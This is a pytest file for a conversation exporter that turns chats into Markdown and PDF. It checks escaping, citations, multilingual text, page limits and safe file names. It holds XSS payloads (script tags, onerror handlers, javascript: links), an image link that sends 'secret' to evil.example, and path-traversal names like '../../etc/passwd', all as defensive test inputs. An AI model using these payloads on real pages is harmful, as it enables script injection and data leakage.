"""A conversation as Markdown that makes no HTML of its own, and as a PDF with every letter of the five languages."""

from __future__ import annotations

import io
import re
from typing import TYPE_CHECKING

import pypdfium2
import pytest
from markdown_it import MarkdownIt

from ventoux.conversations.entries import MessageInput, MessageOutput, TextChunk, ToolExecution, ToolReferenceChunk
from ventoux.conversations.exporting.markdown import as_markdown
from ventoux.conversations.exporting.names import file_name
from ventoux.conversations.exporting.parts import Code, Prose, parts_of
from ventoux.conversations.exporting.pdf import Stopped, as_pdf
from ventoux.conversations.exporting.wording import ENGLISH, WORDINGS
from ventoux.conversations.schemas import Conversation
from ventoux.errors import InvalidRequest

if TYPE_CHECKING:
    from ventoux.conversations.entries import Chunk, Entry
    from ventoux.conversations.exporting.wording import Language, Wording

AT = "2026-01-01T00:00:00Z"


def talk(name: str | None = "Talk") -> Conversation:
    return Conversation(
        id="conv_" + "0" * 32, workspace_id="w", owner="o", key_id="k", name=name, created_at=1.8e9, updated_at=1.8e9
    )


HOSTILE = [
    "<script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "```\n<script>\n````\n<b>still code</b>",
    "~~~\ncode\n```\n<i>\n~~~\n<iframe src=x>",
    "> ```\n<svg onload=alert(1)>\n```\n<svg>\n",
    "- ```\n  x\n```\n<object>\n```\n",
    "[x](javascript:alert(1)) [y](<javascript:alert(1)>) [z](data:text/html,x)",
    "[a]: javascript:alert(1)\n\n[a]",
    "![pixel](https://evil.example/p?d=secret)",
    "!![pixel](https://evil.example/p) !\\![pixel](https://evil.example/p) \\![pixel](https://evil.example/p)",
    "[x\\](javascript:alert(1)) [y\\\\](javascript:alert(1))",
    "[b\\]: javascript:alert(1)\n\n[b\\]",
    "<https://ok.example> <javascript:alert(1)>",
    "&lt;script&gt; &#60;script&#62;",
    "    <script>indented</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_was_said_becomes_a_tag_an_image_or_a_link_that_runs(text: str) -> None:
    page = MarkdownIt("commonmark", {"html": True}).render(as_markdown(talk(text), [MessageInput(content=text)]))

    for tag in ("<script", "<img", "<iframe", "<svg", "<object", "<b>", "<i>", 'href="javascript', 'href="data'):
        assert tag not in page, page


def test_code_stays_as_it_was_and_links_to_the_web_stay_links() -> None:
    said = 'See [it](https://a.example/b_c).\n\n```python\nif a < b:\n    print("```")\n```\nend'

    written = as_markdown(talk(), [MessageInput(content=said)])

    assert "[it](https://a.example/b_c)" in written
    assert '````python\nif a < b:\n    print("```")\n````\n' in written


def test_a_fence_ends_where_it_is_closed_and_else_with_the_message() -> None:
    assert list(parts_of("a\n```py\nb\n```\nc\n~~~\nd")) == [Prose("a"), Code("b", "py"), Prose("c"), Code("d")]


def test_citations_are_numbered_once_and_listed() -> None:
    source = ToolReferenceChunk(tool="web_search", title="A_page", url="https://a.example")
    entry = MessageOutput(content=[TextChunk("Yes "), source, TextChunk(", no "), source], created_at=AT)

    written = as_markdown(talk(), [entry])

    assert "Yes [1], no [1]" in written
    assert "1. A\\_page: https://a.example" in written


def _cited(page: int) -> ToolReferenceChunk:
    source = {"library_id": "lib-1", "document_id": "doc-1", "page": page}
    return ToolReferenceChunk(tool="document_library", title="<b>.pdf", description=f"Passage {page}", source=source)


def test_citations_of_a_document_have_pages_and_passages_and_the_language_that_is_asked_for() -> None:
    said: list[Chunk] = [TextChunk("Drei Monate"), _cited(6), _cited(3), _cited(6)]
    entries: list[Entry] = [
        MessageInput(content='Wann?\n\n[attached document "<i>.pdf", lib-1/doc-1: look into it with document_library]'),
        ToolExecution(name="document_library", arguments="{}"),
        MessageOutput(content=said, created_at="2026-01-01T09:08:07.5Z", partial=True),
    ]

    written = as_markdown(talk(None), entries, WORDINGS["de"])
    (printed,) = _text(as_pdf(talk(None), entries, words=WORDINGS["de"]))

    assert written.startswith(
        "# Unterhaltung\n\n2027-01-15 08:00 UTC\n\n## Benutzer ()\n\nWann?\n\n(Dokument: &lt;i>.pdf)\n"
    )
    assert "In den Dokumenten gesucht:" in written
    assert "## Assistent (2026-01-01 09:08 UTC)\n\nDrei Monate[1][2][1]\n\n(Die Antwort endete hier.)" in written
    assert "1. &lt;b\\>.pdf, Seite 6\n   > Passage 6\n2. &lt;b\\>.pdf, Seite 3\n" in written
    assert "[2] <b>.pdf, Seite 3" in printed
    assert "doc-1" not in written + printed


def test_the_text_of_a_file_is_code_whatever_is_in_it() -> None:
    attached = 'Look.\n\n[attached file "a.md"]\n```\n<b>\n```\n[end of the attached file "a.md"]'

    written = as_markdown(talk(), [MessageInput(content=attached)])

    assert "(File: a.md)\n\n````\n```\n<b>\n```\n````" in written


@pytest.mark.parametrize("language", WORDINGS)
def test_every_language_says_the_same_with_the_same_names_in_it(language: Language) -> None:
    def fields(words: Wording) -> list[set[str]]:
        return [set(re.findall(r"\{\w+\}", one)) for one in words if isinstance(one, str)]

    assert fields(WORDINGS[language]) == fields(ENGLISH)
    assert WORDINGS[language].tools.keys() == ENGLISH.tools.keys()


def _text(pdf: bytes) -> list[str]:
    document = pypdfium2.PdfDocument(io.BytesIO(pdf))
    return [page.get_textpage().get_text_bounded() for page in document]


def test_letters_of_five_languages_are_in_the_pdf_and_what_is_lost_is_told() -> None:
    letters = "œuvre garçon Noël Größe Übung ñandú ¿qué? perché città €5 “oui” « ça » \u2013 …"
    known = MessageInput(content=letters, created_at=AT)

    (plain,) = _text(as_pdf(talk(), [known]))
    (lost,) = _text(as_pdf(talk(), [known, MessageInput(content="漢字 → x", created_at=AT)]))

    assert letters in plain
    assert "do not have" not in plain
    assert "¿¿ -> x" in lost
    assert "do not have" in lost


def test_a_long_conversation_goes_over_pages_and_loses_no_word() -> None:
    words = [f"word{number}" for number in range(3000)]
    ran = ToolExecution(name="code_interpreter", arguments="{}", info={"output": "y" * 500}, created_at=AT)

    pages = _text(as_pdf(talk("x" * 300), [MessageInput(content=" ".join(words), created_at=AT), ran]))

    assert len(pages) > 2
    assert [word for word in words if not any(word in page for page in pages)] == []


def test_a_word_without_an_end_is_broken_in_one_go_and_a_pdf_has_its_bounds(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    word = "W" * 60_000

    written = "".join(_text(as_pdf(talk(), [MessageInput(content=word, created_at=AT)])))

    assert written.count("W") == len(word)
    monkeypatch.setattr("ventoux.conversations.exporting.pages._MOST_PAGES", 20)
    for much in ("x y " * 1_000_000, "a\n" * 2_000):
        with pytest.raises(InvalidRequest, match="too long for a PDF"):
            as_pdf(talk(), [MessageInput(content=much, created_at=AT)])


def test_a_pdf_that_nobody_waits_for_is_not_written_on() -> None:
    with pytest.raises(Stopped):
        as_pdf(talk(), [MessageInput(content="x", created_at=AT)], lambda: True)


@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b\\c:d*?", "CON", "\x00\n", "", None, "é" * 500, ".."])
def test_names_of_files_lead_nowhere(name: str | None) -> None:
    made = file_name(talk(name), "md")

    assert made.startswith("2027-01-15 ")
    assert made.endswith(" 000000000000.md")
    assert len(made) < 100
    assert not set(made[:-3]) & set('/\\:*?"<>|.\n\x00')
